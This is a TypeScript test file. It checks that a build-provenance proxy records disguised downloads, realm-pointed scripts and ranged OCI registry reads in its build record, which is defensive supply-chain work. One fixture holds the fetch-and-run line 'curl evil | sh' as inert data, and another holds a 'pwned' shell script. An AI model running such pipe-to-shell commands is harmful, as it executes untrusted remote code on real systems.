// Issue 8, probe 5: inputs a build could hide from the record. Every case is an exchange as the
// hot path hands it over (planned by the stage's own planner, really hashed); each asserts
// what the record must hold.
import { randomBytes } from 'node:crypto';
import t from 'tap';
import { createOciStage } from '../../src/oci/oci-stage.js';
import { buildStatement } from '../../src/provenance/statement.js';
import { BuildRecord } from '../../src/record/build-record.js';
import { resolveInputs } from '../../src/record/resolve-inputs.js';
import { ofType, REGISTRY, run, sha256 } from './exchange-builder.js';

const REPO = 'lab/inputs';
const blob = randomBytes(1000);
const digest = sha256(blob);
const TOKEN_QUERY = '?service=registry.test&scope=repository:lab/inputs:pull';

function challenge(stage: ReturnType<typeof createOciStage>, realm: string) {
  return run(stage, {
    method: 'GET',
    target: '/v2/',
    status: 401,
    responseHeaders: { 'www-authenticate': `Bearer realm="${realm}",service="registry.test"` },
  });
}

t.test('a blob or manifest GET carrying token-protocol parameters is classified by its path', async (t) => {
  const stage = createOciStage();
  t.match(
    ofType(
      run(stage, {
        method: 'GET',
        target: `/v2/${REPO}/blobs/${digest}${TOKEN_QUERY}`,
        status: 200,
        responseBody: blob,
      }),
      'blobPulled',
    ),
    [{ digest, computedDigest: digest, verification: 'verified' }],
  );
  const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, manifests: [] }));
  t.match(
    ofType(
      run(stage, {
        method: 'GET',
        target: `/v2/${REPO}/manifests/v1${TOKEN_QUERY}`,
        status: 200,
        responseHeaders: { 'content-type': 'application/vnd.oci.image.index.v1+json' },
        responseBody: manifest,
      }),
      'manifestPulled',
    ),
    [{ digest: sha256(manifest), kind: 'index' }],
  );
});

t.test(
  'a download dressed as a token request is recorded: only a token answer is a credential',
  async (t) => {
    const stage = createOciStage();
    const tool = randomBytes(5000);
    for (const target of [`/tool.tar.gz${TOKEN_QUERY}`, '/oauth2/token?scope=x', `/v2/token${TOKEN_QUERY}`]) {
      const events = run(stage, {
        method: 'GET',
        authority: 'downloads.test:443',
        target,
        status: 200,
        responseHeaders: { 'content-type': 'application/octet-stream' },
        responseBody: tool,
      });
      t.match(ofType(events, 'artifactDownloaded'), [{ sha256: sha256(tool), size: 5000 }], target);
    }
    // JSON that is not a token answer (other fields) is a download too.
    const config = Buffer.from(JSON.stringify({ token: 'x', script: 'curl evil | sh' }));
    t.match(
      ofType(
        run(stage, {
          method: 'GET',
          authority: 'downloads.test:443',
          target: `/config.json${TOKEN_QUERY}`,
          status: 200,
          responseBody: config,
        }),
        'artifactDownloaded',
      ),
      [{ sha256: sha256(config) }],
    );
    // Bigger than any token answer: the capture overflows and it is a download.
    const big = Buffer.from(JSON.stringify({ token: 'x'.repeat(20_000) }));
    t.equal(
      ofType(
        run(stage, {
          method: 'GET',
          authority: 'auth.test:443',
          target: `/token${TOKEN_QUERY}`,
          status: 200,
          responseBody: big,
        }),
        'artifactDownloaded',
      ).length,
      1,
      'an oversized "token" is recorded',
    );
    // A real token answer stays out of the record.
    t.same(
      run(stage, {
        method: 'GET',
        authority: 'auth.test:443',
        target: `/token${TOKEN_QUERY}`,
        status: 200,
        responseHeaders: { 'content-type': 'application/json' },
        responseBody: JSON.stringify({
          token: 'eyJ',
          access_token: 'eyJ',
          expires_in: 300,
          issued_at: 'now',
        }),
      }),
      [],
    );
  },
);

t.test('a realm named in a challenge never shadows an OCI route or hides a download', async (t) => {
  const stage = createOciStage();
  challenge(stage, `https://${REGISTRY}/v2/${REPO}/blobs/${digest}`);
  t.equal(stage.state().tokenRealms.size, 0, 'a realm that is an OCI endpoint is not kept');
  t.match(
    ofType(
      run(stage, { method: 'GET', target: `/v2/${REPO}/blobs/${digest}`, status: 200, responseBody: blob }),
      'blobPulled',
    ),
    [{ digest, verification: 'verified' }],
  );

  challenge(stage, 'https://downloads.test/installer.sh');
  t.equal(stage.state().tokenRealms.size, 1);
  const script = Buffer.from('#!/bin/sh\necho pwned\n');
  t.match(
    ofType(
      run(stage, {
        method: 'GET',
        authority: 'downloads.test:443',
        target: '/installer.sh',
        status: 200,
        responseBody: script,
      }),
      'artifactDownloaded',
    ),
    [{ sha256: sha256(script), url: 'https://downloads.test/installer.sh' }],
    'the realm answered no token: it is a download',
  );
  t.same(
    run(stage, {
      method: 'GET',
      authority: 'downloads.test:443',
      target: '/installer.sh?service=registry.test',
      status: 200,
      responseBody: '{"token":"abc"}',
    }),
    [],
    'the realm answering a token is a credential',
  );
});

t.test('ranged blob reads (206) are inputs, never claimed verified', async (t) => {
  const stage = createOciStage();
  const part = run(stage, {
    method: 'GET',
    target: `/v2/${REPO}/blobs/${digest}`,
    requestHeaders: { range: 'bytes=0-99' },
    status: 206,
    responseHeaders: { 'content-range': 'bytes 0-99/1000' },
    responseBody: blob.subarray(0, 100),
  });
  t.same(
    ofType(part, 'blobPulled').map(({ exchangeId: _e, at: _a, ...rest }) => rest),
    [
      {
        type: 'blobPulled',
        registry: REGISTRY,
        repository: REPO,
        digest,
        computedDigest: null,
        size: 100,
        verification: 'unverifiable',
        redirectedTo: null,
        contentRange: 'bytes 0-99/1000',
      },
    ],
  );
  t.equal(ofType(part, 'digestMismatch').length, 0, 'part of a blob is no mismatch');

  const other = randomBytes(300);
  const whole = run(stage, {
    method: 'GET',
    target: `/v2/${REPO}/blobs/${sha256(other)}`,
    requestHeaders: { range: 'bytes=0-' },
    status: 206,
    responseHeaders: { 'content-range': 'bytes 0-299/300' },
    responseBody: other,
  });
  t.match(ofType(whole, 'blobPulled'), [
    { computedDigest: sha256(other), verification: 'verified', contentRange: 'bytes 0-299/300' },
  ]);
  const forged = randomBytes(300);
  t.match(
    run(stage, {
      method: 'GET',
      target: `/v2/${REPO}/blobs/${sha256(other)}`,
      status: 206,
      responseHeaders: { 'content-range': 'bytes 0-299/300' },
      responseBody: forged,
    }).map((e) => e.type),
    ['blobPulled', 'digestMismatch'],
    'a whole-range answer with other bytes is a mismatch',
  );
  t.match(
    ofType(
      run(stage, {
        method: 'GET',
        target: `/v2/${REPO}/blobs/${digest}`,
        status: 206,
        responseBody: blob.subarray(0, 10),
      }),
      'blobPulled',
    ),
    [{ computedDigest: null, verification: 'unverifiable', contentRange: 'unknown' }],
    'no Content-Range: partial',
  );

  const record = BuildRecord.from(ofType(part, 'blobPulled'));
  const [loose] = resolveInputs(record).looseBlobs;
  t.match(loose, { digest, computedDigest: null, verification: 'unverifiable', partial: true });
  const statement = buildStatement(record, statementContext());
  const dependency = statement.predicate.buildDefinition.resolvedDependencies?.find((d) =>
    d.uri?.endsWith(digest),
  );
  t.match(dependency, {
    digest: { sha256: digest.slice('sha256:'.length) },
    annotations: { kind: 'oci-blob', verification: 'unverifiable', fetched: 'partial', size: 100 },
  });
});

function statementContext() {
  return {
    builderId: 'https://builder.test',
    builderVersion: '0',
    build: {},
    proxyConfigDigest: sha256('config'),
    policy: { intercept: [], tunnel: [], signingKey: { keyid: 'k', algorithm: 'ecdsa', ephemeral: true } },
    invocationId: 'inv',
    startedOn: 1_800_000_000_000,
    finishedOn: null,
    egress: { hosts: [], unobservedTunnels: [], blockedRequests: 0 },
  } as unknown as Parameters<typeof buildStatement>[1];
}

t.test('ranged manifest reads: the whole range is a pull, a part is an anomaly, never silence', async (t) => {
  const stage = createOciStage();
  const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, manifests: [] }));
  const digestOfManifest = sha256(manifest);
  const whole = run(stage, {
    method: 'GET',
    target: `/v2/${REPO}/manifests/${digestOfManifest}`,
    status: 206,
    responseHeaders: {
      'content-type': 'application/vnd.oci.image.index.v1+json',
      'content-range': `bytes 0-${manifest.length - 1}/${manifest.length}`,
    },
    responseBody: manifest,
  });
  t.match(ofType(whole, 'manifestPulled'), [
    { digest: digestOfManifest, verification: 'verified', kind: 'index' },
  ]);
  const part = run(stage, {
    method: 'GET',
    target: `/v2/${REPO}/manifests/v1`,
    status: 206,
    responseHeaders: { 'content-range': `bytes 0-9/${manifest.length}` },
    responseBody: manifest.subarray(0, 10),
  });
  t.same(
    part.map((e) => e.type),
    ['ociAnomaly'],
  );
  t.match(part[0], { code: 'manifest_read_partial', repository: REPO, detail: /v1 \(bytes 0-9\// });
});
